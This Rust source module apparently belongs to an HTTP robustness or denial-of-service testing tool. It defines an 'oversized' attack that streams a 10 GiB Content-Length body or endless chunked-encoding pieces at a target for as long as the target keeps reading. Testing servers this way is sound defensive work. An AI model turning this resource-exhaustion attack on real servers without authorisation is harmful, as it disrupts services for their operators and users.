//! Bodies above any limit, sent for as long as the target takes them, whatever it answers.

use super::{Attack, Endless, PAUSE, PIECE_BYTES, head};

/// 16 KiB as one chunk.
fn chunk() -> Vec<u8> {
    let mut chunk = format!("{PIECE_BYTES:x}\r\n").into_bytes();
    chunk.resize(chunk.len() + PIECE_BYTES, b'[');
    chunk.extend_from_slice(b"\r\n");
    chunk
}

pub(super) const ATTACK: Attack = Attack {
    name: "oversized",
    description: "a body of 10 GiB by Content-Length, or of chunks without end, as fast as it is taken",
    reads: true,
    pause: PAUSE,
    variants: &["10 GiB", "endless chunks"],
    script: |target, variant| {
        Box::new(if variant == 0 {
            // The target or the end of the attack comes long before the 10 GiB are through.
            Endless { first: head(target, "Content-Length: 10737418240"), piece: vec![b'['; PIECE_BYTES] }
        } else {
            Endless { first: head(target, "Transfer-Encoding: chunked"), piece: chunk() }
        })
    },
};
